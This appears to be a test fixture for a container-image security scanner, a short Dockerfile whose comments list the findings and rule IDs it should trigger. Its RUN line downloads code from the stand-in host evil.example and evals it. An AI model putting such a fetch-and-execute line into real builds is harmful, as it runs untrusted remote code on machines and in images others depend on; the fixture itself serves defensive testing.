FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN node -e "fetch('https://evil.example/n').then(r=>r.text()).then(eval)"
USER app
# expect: download 2 high "node inline code fetches https://evil.example/n"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-9e1f82c68b VR501-e064bac1a6
